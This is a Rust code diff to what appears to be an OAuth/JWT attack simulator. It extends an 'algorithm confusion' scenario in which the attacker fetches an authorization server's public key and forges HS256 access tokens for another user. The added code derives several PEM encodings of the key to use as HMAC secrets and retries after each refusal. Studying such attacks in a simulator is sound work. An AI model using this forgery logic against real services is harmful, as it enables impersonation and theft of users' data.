@@ -66,14 +66,15 @@ static NONE_INFO: AttackInfo = AttackInfo {
 static CONFUSION_INFO: AttackInfo = AttackInfo {
     id: "jwt-alg-confusion",
     title: "Algorithm confusion: HS256 keyed with the AS's public key",
-    story: "Mallory downloads the AS's public key from its JWKS, forges an access token for Alice with alg: HS256, and \
-            signs it with HMAC using the public key's bytes as the secret. A resource server that lets the header \
-            choose the algorithm passes its RSA public key to HMAC — and the signature checks out.",
+    story: "Mallory downloads the AS's public key from its JWKS, turns it into the PEM text a JWK-to-PEM converter \
+            prints, forges an access token for Alice with alg: HS256, and signs it with HMAC using that text as the \
+            secret (trying the other common encodings if the first is refused). A resource server that lets the \
+            header choose the algorithm passes its PEM public key to HMAC — and the signature checks out.",
     capabilities: &[Capability::WebAttacker],
     setup: "Nothing beyond the standard world: the JWKS is public.",
     steps: &[
         "GET as.example/jwks",
-        "Forge an HS256 JWT for alice keyed with the RSA public key",
+        "Forge an HS256 JWT for alice keyed with the public key's PEM text (then the other encodings)",
         "GET rs.example/photos with it",
     ],
     goal: "the RS hands the attacker Alice's photos for a token the attacker signed",
@@ -98,9 +99,63 @@ static CONFUSION_INFO: AttackInfo = AttackInfo {
 
 struct Forge {
     forgery: Forgery,
+    /// HMAC secrets still to try, and the key id they belong to (algorithm confusion).
+    guesses: Vec<(String, Vec<u8>)>,
+    kid: Option<String>,
+}
+
+/// The attacker's guesses at the string a careless verifier feeds to HMAC, made from
+/// the JWK it fetched, in the encodings real vulnerable setups used (RFC 8725 §2.1):
+/// the key as PEM text the way JWK-to-PEM converters and `openssl` print it, the same
+/// without its final line break (a key pasted into a config string), and the PKCS #1
+/// form (`BEGIN RSA PUBLIC KEY`).
+fn key_guesses(jwk: &jsonwebtoken::jwk::Jwk) -> Vec<(String, Vec<u8>)> {
+    use crate::protocol::pem::{pem, rsa_public_key_der, rsa_spki_der};
+    use base64::Engine;
+    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    let jsonwebtoken::jwk::AlgorithmParameters::RSA(rsa) = &jwk.algorithm else {
+        return Vec::new();
+    };
+    let (Ok(n), Ok(e)) = (
+        URL_SAFE_NO_PAD.decode(&rsa.n),
+        URL_SAFE_NO_PAD.decode(&rsa.e),
+    ) else {
+        return Vec::new();
+    };
+    let spki = pem("PUBLIC KEY", &rsa_spki_der(&n, &e));
+    vec![
+        ("the PEM public key".into(), spki.clone().into_bytes()),
+        (
+            "the PEM public key without its final line break".into(),
+            spki.trim_end().as_bytes().to_vec(),
+        ),
+        (
+            "the PKCS #1 PEM public key".into(),
+            pem("RSA PUBLIC KEY", &rsa_public_key_der(&n, &e)).into_bytes(),
+        ),
+    ]
 }
 
 impl Forge {
+    /// Signs the next guess and calls the API with it; `false` when none is left.
+    fn try_next_guess(&mut self, kit: &mut Kit, ctx: &mut Moves<'_, '_>) -> bool {
+        if self.guesses.is_empty() {
+            return false;
+        }
+        let (how, secret) = self.guesses.remove(0);
+        let token = jwt::sign_hs256(
+            ACCESS_TOKEN_TYP,
+            self.kid.as_deref(),
+            &secret,
+            &Self::claims(ctx),
+        );
+        ctx.note(format!(
+            "Forger: signed an access token for alice with HS256, keyed with {how} built from the AS's JWKS."
+        ));
+        kit.call_api(ctx, http::Method::GET, &photos_api(), &token);
+        true
+    }
+
     fn claims(ctx: &mut Moves<'_, '_>) -> AccessTokenClaims {
         let now = ctx.now().unix_secs();
         AccessTokenClaims {
@@ -151,15 +206,16 @@ impl Playbook for Forge {
             return;
         };
         let Some(key) = set.keys.first() else { return };
-        let secret = jwt::public_key_bytes(key);
-        let token = jwt::sign_hs256(
-            ACCESS_TOKEN_TYP,
-            key.common.key_id.as_deref(),
-            &secret,
-            &Self::claims(ctx),
-        );
-        ctx.note("Forger: signed an access token for alice with HS256, keyed with the AS's public RSA key.");
-        kit.call_api(ctx, http::Method::GET, &photos_api(), &token);
+        self.kid = key.common.key_id.clone();
+        self.guesses = key_guesses(key);
+        self.try_next_guess(kit, ctx);
+    }
+
+    fn on_api(&mut self, kit: &mut Kit, ctx: &mut Moves<'_, '_>, resp: &Response) {
+        if resp.status() == http::StatusCode::UNAUTHORIZED && !self.guesses.is_empty() {
+            ctx.note("Forger: the RS refused that token; it tries the next encoding of the key.");
+            self.try_next_guess(kit, ctx);
+        }
     }
 }
 
@@ -176,6 +232,8 @@ impl Attack for ForgedJwt {
             &[],
             Forge {
                 forgery: self.forgery,
+                guesses: Vec::new(),
+                kid: None,
             },
         )));
         sim.push_scenario(instruct(
